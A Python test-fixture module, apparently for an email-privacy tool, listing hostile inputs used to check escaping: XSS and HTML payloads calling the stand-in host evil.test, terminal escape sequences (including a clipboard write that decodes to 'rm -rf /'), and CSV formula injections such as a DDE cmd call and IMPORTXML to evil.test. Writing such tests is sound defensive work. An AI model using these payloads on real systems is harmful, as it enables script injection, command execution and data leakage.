"""Payloads that strangers may put into names, subjects and hosts; and a month full of one of them."""

from inbox_guard.core.attempt import Result
from inbox_guard.core.history import Evidence
from inbox_guard.core.honour import Honour
from inbox_guard.core.records import Month
from inbox_guard.core.sender import SenderKind
from inbox_guard.core.vocabulary import HonourState, Kind, Mechanism, Outcome

from .sample import OLDEST, Told, at, month, tried

HTML = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-remote": '<img src="https://evil.test/pixel.gif">',
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "close-title": "</title><script>alert(1)</script>",
    "close-style": "</style><script>alert(1)</script>",
    "close-bdi": "</bdi></p></main><iframe src=//evil.test>",
    "quote-attribute": '" onmouseover="alert(1)',
    "apostrophe-attribute": "' autofocus onfocus='alert(1)",
    "backtick": "`<b>code</b>`",
    "link": '<a href="https://evil.test/">here</a>',
    "javascript-link": "<a href=javascript:alert(1)>x</a>",
    "data-url": "data:text/html,<script>alert(1)</script>",
    "base": '<base href="//evil.test/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=//evil.test">',
    "link-stylesheet": "<link rel=stylesheet href=//evil.test/a.css>",
    "style": "<style>@import url(//evil.test/a.css);</style>",
    "style-attribute": '<p style="background:url(//evil.test/)">',
    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=//evil.test/x></object>",
    "embed": "<embed src=//evil.test/x>",
    "form": "<form action=//evil.test><input name=a><button>go</button></form>",
    "video": "<video src=x onerror=alert(1)></video>",
    "details": "<details open ontoggle=alert(1)>",
    "math": "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!-- --><!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": "<!doctype html><html><body onload=alert(1)>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric-entity": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "null-byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "newline-tag": "<img\nsrc=x\nonerror=alert(1)>",
    "fullwidth": "＜script＞alert(1)＜/script＞",
    "jinja": "{{ 7 * 7 }}{% include 'x' %}{# c #}",
    "format-braces": "{text}{0}{__class__}",
    "unclosed": "<div><table><tr><td",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
}

TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear-screen": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;https://evil.test/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "eight-bit-csi": "\x9b31mred",
    "eight-bit-osc": "\x9d0;owned\x9c",
    "device-control": "\x1bPq#0\x1b\\",
    "lone-escape": "a\x1b",
    "carriage-return": "safe\rOWNED",
    "line-feed": "one\n[ok] two",
    "backspace": "abc\x08\x08\x08xyz",
    "bell": "\x07\x07",
    "override": "\u202egpj.exe",
    "isolate": "\u2066\u2067\u2068x\u2069",
    "marks": "\u200e\u200f\u061c",
    "line-separator": "a\u2028b\u2029c\x85d\x0be",
    "zero-width": "pay\u200b\u200dpal\ufeff",
    "tags": "x\U000e0041\U000e0042",
    "delete": "a\x7fb",
    "surrogate": "a\ud800b",
    "tower": "Z" + "\u0310" * 60,
}

CSV = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-1+2",
    "at": "@SUM(A1)",
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.test","x")',
    "import": '=IMPORTXML("https://evil.test","//a")',
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "spaces": "   =1+1",
    "zero-width": "\u200b=1+1",
    "escape": "\x1b[0m=1+1",
    "quote-breaks-cell": '","=1+1',
    "fullwidth-equals": "＝1+1",
    "fullwidth-plus": "＋1",
    "fullwidth-minus": "－1",
    "fullwidth-at": "＠SUM(A1)",
}


def everywhere(payload: str, begin: str = "x") -> Month:
    """A month with `payload` in every field that a stranger, or a setting, may fill."""
    bad = begin + payload
    result = Result(Outcome.NEEDS_OWNER, bad, owner_url=bad, rule=bad)
    blocked = Result(Outcome.BLOCKED, bad, rule=bad)
    evidence = Evidence(bad, bad, -0.5, f"they say that {bad}", bad)
    attempts = (
        tried(1, Mechanism.MAILTO, bad, at(4), blocked, number=1),
        tried(1, Mechanism.PAGE, bad, at(5), result, number=2),
    )
    told = Told(
        1,
        bad,
        f"s{bad}",
        SenderKind.ADDRESS,
        f"o{bad}",
        account=bad,
        alias=bad,
        other_aliases=(f"also {bad}",),
        subject=bad,
        reason=bad,
        because=(evidence,),
        attempts=attempts,
    )
    person = Told(
        2,
        bad,
        f"linkedin:{bad}",
        SenderKind.PERSON,
        "linkedin.com",
        kind=Kind.PLATFORM,
        subject=bad,
        because=(evidence,),
        honour=Honour(HonourState.WAITING, at(20), 0),
    )
    return month(told, people=(person,), accounts=(bad, "work"), reach=((bad, OLDEST),))
